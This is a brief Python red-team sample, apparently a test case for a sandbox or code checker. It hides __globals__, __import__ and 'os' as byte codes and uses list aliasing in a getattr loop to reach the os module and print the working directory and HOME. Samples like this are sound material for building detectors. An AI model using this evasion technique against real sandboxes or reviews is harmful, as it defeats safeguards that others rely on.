# family: red team, round 62a (chained tuple alias -> getattr loop names become __globals__/__import__ -> os)
def helper():
    return 1


def text(*codes):
    return bytes(codes).decode()


def run():
    fields, other = alias, spare = ["name", "doc"], ["x"]
    alias[0] = text(95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95)
    alias[1] = text(95, 95, 105, 109, 112, 111, 114, 116, 95, 95)
    space = {}
    for key in fields:
        if not space:
            space = getattr(helper, key)
        else:
            builtins_module = space[text(95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95)]
            print(builtins_module)
            loader = getattr(builtins_module, key)
            system = loader(text(111, 115))
            print(system)
            print(system.getcwd())
            print(system.environ.get(text(72, 79, 77, 69)))


run()
